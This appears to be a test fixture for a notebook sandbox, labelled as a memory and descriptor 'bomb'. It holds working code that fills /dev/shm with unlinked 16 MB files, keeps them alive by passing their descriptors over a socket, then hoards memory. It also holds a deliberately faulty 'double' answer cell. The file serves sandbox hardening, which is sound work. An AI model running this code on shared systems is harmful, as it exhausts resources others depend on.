# ---
# attack: 'Fills files in shared memory that have no name any more, and hands them from process to process.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import os`'
# runtimes: [tensorflow]
# ---
# %% before="q1"
import os
import socket
import time

ours, theirs = socket.socketpair()
taken = 0
try:
    for number in range(60):
        file = os.open(f"/dev/shm/{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"/dev/shm/{number}")
        taken += os.write(file, bytes(2**24))
        socket.send_fds(ours, [b"x"], [file])
        os.close(file)
except OSError:
    pass
hoard = b"x" * 2**26
time.sleep(5)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
